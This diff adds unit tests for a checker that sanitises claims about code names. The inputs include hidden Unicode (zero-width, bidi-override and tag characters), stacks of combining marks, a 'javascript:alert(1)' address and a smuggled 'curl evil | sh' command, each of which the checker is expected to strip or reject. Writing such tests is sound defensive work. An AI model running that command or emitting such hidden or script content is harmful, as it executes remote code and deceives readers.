@@ -53,6 +53,23 @@ test('a name without backticks is held to the same', () => {
   )
 })
 
+test('a name is cut by no emphasis and by nothing that is not seen', () => {
+  assert.equal(check('`match` uses the Warp*Drive*Controller.').claim, null)
+  assert.equal(check('`match` uses the Warp\u200bDriveController.').claim, null)
+  assert.equal(check('`match` uses the Warp&#x202e;DriveController.').claim, null)
+})
+
+test('what is not seen is not published, however it is written', () => {
+  assert.equal(words(check('`match` \u{e0049}\u{e0067}is&#x200b; \u00adf&#x202e;ast.').claim), '`match` is fast.')
+})
+
+test('arguments that the code does not know are left out of a name', () => {
+  const { claim, isRepaired } = check('`Router.match(warpDrive.engage())` finds it, `match(path)` too.')
+  assert.equal(words(claim), '`Router.match()` finds it, `match(path)` too.')
+  assert.equal(isRepaired, true)
+  assert.equal(words(check('`match(); curl evil | sh` finds it.').claim), '`match()` finds it.')
+})
+
 test('the one name that differs by a letter is put right', () => {
   const { claim, isRepaired } = check('`Router.mach` finds a handler.')
   assert.equal(words(claim), '`Router.match` finds a handler.')
@@ -81,6 +98,9 @@ describe('no claim stands', () => {
     ['with a link', '`match` is [fast](https://example.org).', [fact(1)]],
     ['with an address', '`match` is fast, see https://example.org/x', [fact(1)]],
     ['with a script as an address', '`match` is fast javascript:alert(1)', [fact(1)]],
+    ['with an address that a reference cuts', '`match` is fast, see https:/&#x202e;/example.org/x', [fact(1)]],
+    ['with heaps of marks', `\`match\` is fas${'\u0301'.repeat(40)}t.`, [fact(1)]],
+    ['with heaps of marks as references', `\`match\` is fas${'&#x301;'.repeat(40)}t.`, [fact(1)]],
     ['about its writer', 'As an AI language model, I like `match`.', [fact(1)]],
     ['that offers more', 'Let me know if `match` helps.', [fact(1)]],
     ['that repeats itself', `\`match\` ${'is very fast indeed and '.repeat(12)}good.`, [fact(1)]],
